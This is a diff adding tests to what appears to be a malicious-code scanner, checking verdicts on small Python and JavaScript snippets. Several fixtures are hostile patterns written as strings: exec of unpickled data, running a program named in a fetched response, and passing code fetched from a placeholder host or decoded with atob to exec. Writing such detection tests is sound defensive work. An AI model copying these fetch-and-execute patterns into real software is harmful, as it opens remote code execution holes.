@@ -139,3 +139,29 @@ def test_no_unknown_program_starts_while_a_library_is_loaded(name: str) -> None:
     code = "import subprocess, settings\nsubprocess.run(settings.program)\n"
     assert rules_of(name, code) == {"python.runs-program"}
     assert verdict_of_text("tools.py", code) is Verdict.SAFE
+
+
+def test_a_path_that_another_process_hands_over_is_no_hidden_code() -> None:
+    code = "import pickle, runpy\ndef main(pipe):\n    data = pickle.load(pipe)\n    {}\n"
+    assert verdict_of_text("spawn.py", code.format("runpy.run_path(data['main'])")) is Verdict.SUSPICIOUS
+    assert verdict_of_text("spawn.py", code.format("exec(data['main'])")) is Verdict.MALICIOUS
+
+
+def test_what_is_fetched_for_an_ordinary_program_is_not_the_program() -> None:
+    code = "import requests, subprocess\ndef f(exe):\n    a = requests.get(U).json()\n    subprocess.run([{}])\n"
+    assert verdict_of_text("a.py", code.format("exe, a['x']")) is Verdict.SUSPICIOUS
+    assert verdict_of_text("a.py", code.format("a['x'], exe")) is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    ("code", "verdict"),
+    [
+        ("fetch('http://x.invalid.net/a').then(e => use(e));\nclass A { execute(e) { e.go(); } }\n", Verdict.SAFE),
+        ("fetch('http://x.invalid.net/a').then(n => use(n));\nt[n.id].execute(n);\n", Verdict.SAFE),
+        ("let code = await fetch('http://x.invalid.net/a');\ncp.exec(code);\n", Verdict.SUSPICIOUS),
+        ("let a = atob(x);\nexec(a);\n", Verdict.SUSPICIOUS),
+    ],
+)
+def test_methods_and_letters_of_bundled_scripts_start_nothing(code: str, verdict: Verdict) -> None:
+    found = verdict_of_text("a.js", code)
+    assert found is verdict if verdict is Verdict.SAFE else found.rank >= verdict.rank
